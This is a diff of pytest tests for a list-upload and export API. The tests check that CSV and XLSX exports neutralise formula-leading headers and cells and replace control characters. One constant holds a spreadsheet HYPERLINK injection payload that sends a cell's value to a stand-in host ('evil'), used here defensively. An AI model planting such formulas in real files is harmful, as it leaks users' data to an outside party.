@@ -53,6 +53,8 @@ def _envelope(response: Any) -> dict[str, Any]:
         ("struct.parquet", bombs.parquet_struct, 422, "unreadable_file"),
         ("rows.csv", bombs.csv_rows, 413, "too_many_rows"),
         ("wide.csv", bombs.csv_wide, 413, "too_many_columns"),
+        ("wide_line.csv", bombs.csv_wide_line, 413, "too_many_columns"),
+        ("wide_row.csv", bombs.csv_wide_row, 422, "unreadable_file"),
     ],
 )
 def test_each_bomb_gets_a_clear_refusal_in_the_envelope(  # noqa: PLR0917
@@ -189,3 +191,126 @@ def test_an_upload_with_a_tab_before_a_formula_is_refused_by_row_and_column(
     problems = _envelope(response)["problems"]
     assert [(p["row"], p["column"]) for p in problems] == [(4, "msme_id")]
     assert "control" in problems[0]["reason"] or "kontrol" in problems[0]["reason"]
+
+
+LINK_HEADER = '=HYPERLINK("http://evil/?x="&A2,"open")'
+
+
+@pytest.mark.parametrize("style", ["standard", "excel_id"])
+def test_a_column_of_the_files_own_named_as_a_formula_is_exported_as_text(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path, style: str
+) -> None:
+    """Headers went out as they were named: a live HYPERLINK in the list's CSV. In XLSX every
+    header is a text cell."""
+    frame = candidate_frame.head(12).copy()
+    frame[LINK_HEADER] = [f"catatan {i}" for i in range(len(frame))]
+    frame["+saldo"] = "=1+2"
+    made = _upload(client, csv_bytes(frame, tmp_path, "k.xlsx"), "kandidat.xlsx")
+    assert made.status_code == 200, made.text[:500]
+    listed = made.json()
+    assert {LINK_HEADER, "+saldo"} <= set(listed["source"]["columns"])
+
+    for part in ("selected", "not_selected"):
+        response = client.post(
+            EXPORT,
+            params={"format": "csv", "part": part, "csv_style": style},
+            json=listed,
+            headers=AUTH,
+        )
+        assert response.status_code == 200, response.text[:300]
+        separator = ";" if style == "excel_id" else ","
+        text = response.content.decode("utf-8-sig")
+        header, *rows = list(csv.reader(io.StringIO(text), delimiter=separator))
+        assert "'" + LINK_HEADER in header and "'+saldo" in header, header
+        assert not [name for name in header if name.startswith(("=", "+", "-", "@"))]
+        assert {row[header.index("'+saldo")] for row in rows} == {"'=1+2"}
+
+    xlsx = client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH)
+    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
+    headers = {cell.value: cell.data_type for cell in sheet[1]}
+    assert headers[LINK_HEADER] == "s"
+
+
+def _with_own_columns(listed: dict[str, Any], cells: dict[str, str]) -> dict[str, Any]:
+    """`listed` with own columns `cells` (name -> text) on every MSME, as a list sent back."""
+    listed["source"]["columns"] += list(cells)
+    for part in ("selected", "not_selected"):
+        for item in listed[part]:
+            item["input"] |= cells
+    return listed
+
+
+def test_control_characters_of_own_columns_are_replaced_in_every_export(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
+) -> None:
+    """The file's own columns went out raw (`a\\x07b\\x1bc`, a header `note\\t`). They are
+    the file's, as the upload took them, so they are written, each control character a cell
+    cannot show as U+FFFD, in CSV as in XLSX; a tab or line break stays in a cell (an address
+    over two lines), and a header is one line."""
+    listed = _list_with_ids(client, candidate_frame, tmp_path, ["U-1"])
+    _with_own_columns(listed, {"catatan": "a\x07b\x1bc\x9b", "note\t": "Jl. Merdeka 5\nRT 02"})
+
+    text = client.post(
+        EXPORT, params={"format": "csv", "part": "selected"}, json=listed, headers=AUTH
+    ).content.decode("utf-8-sig")
+    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
+    workbook = load_workbook(
+        io.BytesIO(
+            client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH).content
+        )
+    )
+    sheet = workbook.worksheets[0]
+    sheet_header = [cell.value for cell in sheet[1]]
+    sheet_row = [cell.value for cell in sheet[2]]
+
+    for names, row in ((header, rows[0]), (sheet_header, sheet_row)):
+        assert names[-2:] == ["catatan", "note"]
+        assert row[-2:] == ["a\ufffdb\ufffdc\ufffd", "Jl. Merdeka 5\nRT 02"]
+    assert not [c for c in text if c < " " and c not in "\n"]
+
+
+def test_a_list_sent_back_with_control_characters_in_its_reasons_is_refused(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
+) -> None:
+    """The reasons are the list's own words: like its other fields, never the upload's."""
+    listed = _list_with_ids(client, candidate_frame, tmp_path, ["SECRET-1"])
+    listed["selected"][0]["reasons"][0]["text"] = "SECRET\x1b[31m"
+
+    for fmt in ("csv", "xlsx"):
+        response = client.post(EXPORT, params={"format": fmt}, json=listed, headers=AUTH)
+
+        assert response.status_code == 422, response.text[:300]
+        body = _envelope(response)
+        assert [problem["field"] for problem in body["problems"]] == ["selected.0.reasons.0.text"]
+        assert body["problems"][0]["reason"].startswith(
+            "selected[0].reasons[0].text berisi karakter kontrol"
+        )
+        assert "SECRET" not in response.text
+
+
+def test_a_recorded_list_with_an_address_over_two_lines_is_exported(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
+) -> None:
+    """A cell of the file's own over two lines (Alt+Enter in Excel) is taken by the upload and
+    recorded: the list's downloads keep it, they are not refused."""
+    frame = candidate_frame.head(8).copy()
+    frame["alamat"] = [f"Jl. Merdeka {i}\nRT 02/RW 03" for i in range(len(frame))]
+    made = client.post(
+        "/v1/lists/upload",
+        files={"file": ("kandidat.csv", csv_bytes(frame, tmp_path))},
+        data={"options": json.dumps({"capacity": 5}), "repeat": "true"},
+        headers=AUTH,
+    )
+    assert made.status_code == 200, made.text[:300]
+    list_id = made.json()["list_id"]
+
+    for fmt in ("csv", "xlsx"):
+        response = client.get(
+            f"/v1/lists/{list_id}/export", params={"format": fmt, "part": "selected"}, headers=AUTH
+        )
+        assert response.status_code == 200, response.text[:300]
+    text = client.get(
+        f"/v1/lists/{list_id}/export", params={"format": "csv", "part": "selected"}, headers=AUTH
+    ).content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert all(row["alamat"].endswith("\nRT 02/RW 03") for row in rows)
